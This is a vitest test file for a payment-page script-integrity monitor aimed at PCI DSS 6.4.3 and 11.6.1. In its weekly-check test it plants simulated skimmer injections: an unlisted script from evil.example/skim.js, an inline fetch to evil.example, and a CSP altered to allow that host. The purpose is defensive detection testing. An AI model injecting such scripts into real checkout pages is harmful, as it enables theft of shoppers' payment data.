/**
 * P35: the scripts of a payment page are listed, justified and pinned, and a changed byte, header or an unlisted script is
 * noticed by the check that runs at least every seven days (PCI DSS 6.4.3 and 11.6.1). The list is what the build and
 * `florin csp --json` have made; the page is served over HTTP.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { findAlarms } from '../../src/cli/page-watch.js';
import { integrityOf, type PageInventory, readBuiltScripts } from '../../src/cli/script-inventory.js';
import { spawnFlorin, waitForEnd } from '../cli/florin-process.js';
import { listenOnLoopback } from '../support/listen.js';

const FILES = 'dist/browser';
/** Not for a shop's page: inlined by the frame server, served by the sandbox, and the sandbox of a browser tab. */
const ELSEWHERE = [
  ...['florin-frame.js', 'florin-pages.js', 'florin-reference.js', 'florin-backoffice.js'],
  ...['florin-sandbox.js', 'florin-sandbox-worker.js'],
];

let server: Server;
let origin: string;
let folder: string;
const inventories = new Map<string, PageInventory>();

/** What the shop's server sends: changed by a test, put right before the next. */
let site: { html: string; headers: Record<string, string>; change: (file: string, text: string) => string | undefined };

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'florin-p35-'));
  server = createServer((request, response) => {
    const path = new URL(request.url ?? '/', origin).pathname;
    if (!path.startsWith('/florin/')) return response.writeHead(200, site.headers).end(site.html);
    const file = path.slice('/florin/'.length);
    const text = site.change(file, readFileSync(join(FILES, file), 'utf8'));
    return text === undefined ? response.writeHead(404).end() : response.writeHead(200).end(text);
  });
  origin = await listenOnLoopback(server);
  for (const tag of ['classic', 'module', 'isolated']) {
    const args = ['--tag', tag, '--report-url', '/pay/csp-report', '--json'];
    const said = await waitForEnd(spawnFlorin(['csp', '--service-origin', 'https://pay.example', ...args]));
    expect(said.err).toBe('');
    inventories.set(tag, JSON.parse(said.out) as PageInventory);
  }
}, 60_000);
afterAll(() => {
  server.closeAllConnections();
  server.close();
  rmSync(folder, { recursive: true, force: true });
});

async function look(inventory: PageInventory): Promise<readonly string[]> {
  const response = await fetch(`${origin}/checkout`);
  const page = { url: `${origin}/checkout`, html: await response.text(), headers: response.headers };
  return findAlarms(inventory, page, async (url) => {
    const answer = await fetch(url);
    return answer.ok ? new Uint8Array(await answer.arrayBuffer()) : undefined;
  });
}

describe('the list', () => {
  it('has every built script, with its hash and a reason', () => {
    const { scripts } = readBuiltScripts();
    const built = readdirSync(FILES).filter((file) => file.endsWith('.js') && !ELSEWHERE.includes(file));
    expect(scripts.map(({ file }) => file).sort()).toEqual(built.sort());
    for (const { file, integrity, purpose, loadedBy } of scripts) {
      expect(integrity, file).toBe(integrityOf(readFileSync(join(FILES, file)), 'sha384'));
      expect(purpose.length, file).toBeGreaterThan(10);
      expect(loadedBy, file).toMatch(/^(page|florin[\w.-]*\.js)$/);
    }
  });
});

describe.each(['classic', 'module', 'isolated'])('a page with the %s tag', (tag) => {
  let inventory: PageInventory;
  beforeEach(() => {
    inventory = inventories.get(tag)!;
    site = {
      html: `<!doctype html><!-- <script src="/old.js"></script> --><title>Pay</title>${inventory.html}<script type="application/json">{}</script>`,
      headers: { ...inventory.headers },
      change: (_file, text) => text,
    };
  });

  it('has every script that a listed one can load, the texts of all languages included', () => {
    const listed = inventory.scripts.map(({ url }) => url.slice(url.lastIndexOf('/') + 1));
    const asked = listed
      .filter((file) => file.endsWith('.js'))
      .flatMap((file) => [...readFileSync(join(FILES, file), 'utf8').matchAll(/["'`]\.\/(florin[\w.-]*\.js)["'`]/g)])
      .map(([, file]) => file);
    expect(asked.filter((file) => file && !listed.includes(file))).toEqual([]);
    expect(asked.filter((file) => file?.startsWith('florin-lang-')).length).toBeGreaterThan(25);
  });

  it('is as listed, and its policy allows no other script', async () => {
    expect(await look(inventory)).toEqual([]);
    const policy = inventory.headers['content-security-policy'];
    expect(policy).not.toContain('unsafe');
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(inventory.html).toMatch(
      /^(<script type="importmap">.*<\/script>\n)?<script [^>]*integrity="sha384-[^>]*crossorigin/,
    );
  });

  it('reports every difference in the weekly checks of a year', async () => {
    const files = inventory.scripts
      .filter(({ url }) => url !== 'inline')
      .map(({ url }) => url.slice('/florin/'.length));
    const pinned = /integrity="sha384-/;
    const policy = inventory.headers['content-security-policy'] ?? '';
    const changes: readonly [what: RegExp, plant: () => void][] = [
      ...files.map((wanted): [RegExp, () => void] => [
        new RegExp(`a script has changed: .*/${wanted.replaceAll('.', '\\.')}$`),
        () => (site.change = (file, text) => (file === wanted ? `${text} ` : text)),
      ]),
      [/cannot be fetched/, () => (site.change = () => undefined)],
      [/not listed: .*skim/, () => (site.html += '<SCRIPT async\nSRC=https://evil.example/skim.js></SCRIPT>')],
      [/not listed: .*extra/, () => (site.html += '<link rel="modulepreload" href="/extra.js">')],
      [/not listed: sha256/, () => (site.html += '<script>fetch("https://evil.example")</script>')],
      [/not listed: sha256/, () => (site.html += '<script type="importmap">{"imports":{}}</script>')],
      [/not pinned/, () => (site.html = site.html.replace(/ integrity="[^"]*"/, ''))],
      [/not pinned/, () => (site.html = site.html.replace(pinned, 'integrity="sha384-A'))],
      [/content-security-policy is missing/, () => delete site.headers['content-security-policy']],
      [/reporting-endpoints is missing/, () => delete site.headers['reporting-endpoints']],
      [
        /content-security-policy has changed/,
        () => (site.headers['content-security-policy'] = policy.replace("'self'", "'self' https://evil.example")),
      ],
    ];
    for (let week = 0; week < 52; week += 1) {
      const before = { ...site, headers: { ...site.headers } };
      const [what, plant] = changes[week % changes.length]!;
      plant();
      const alarms = await look(inventory);
      expect(alarms.join('\n'), `week ${week}: ${String(what)}`).toMatch(new RegExp(what.source, 'm'));
      site = before;
      expect(await look(inventory), `after week ${week}`).toEqual([]);
    }
  }, 60_000);

  it('cannot be listed without a reason, a hash or a policy', async () => {
    const [first, ...rest] = inventory.scripts;
    const withFirst = (changes: object) => look({ ...inventory, scripts: [{ ...first!, ...changes }, ...rest] });
    expect(await withFirst({ purpose: ' ' })).toEqual([expect.stringContaining('without a reason')]);
    if (first!.url !== 'inline') {
      expect((await withFirst({ integrity: '' })).join()).toContain('without a hash');
    }
    expect(await look({ ...inventory, headers: {} })).toEqual([expect.stringContaining('any script of the page')]);
  });
});

it('the command reports it, with its own exit code', async () => {
  const inventory = inventories.get('classic')!;
  const file = join(folder, 'scripts.json');
  writeFileSync(file, JSON.stringify(inventory));
  site = { html: inventory.html, headers: { ...inventory.headers }, change: (_file, text) => text };
  const run = () => waitForEnd(spawnFlorin(['csp', '--check', `${origin}/checkout`, '--inventory', file]));
  expect(await run()).toMatchObject({ code: 0, out: expect.stringContaining('as listed') as string });
  site.html += '<script src="/tag-manager.js"></script>';
  const said = await run();
  expect(said).toMatchObject({ code: 6, out: `a script is not listed: ${origin}/tag-manager.js\n` });
}, 60_000);
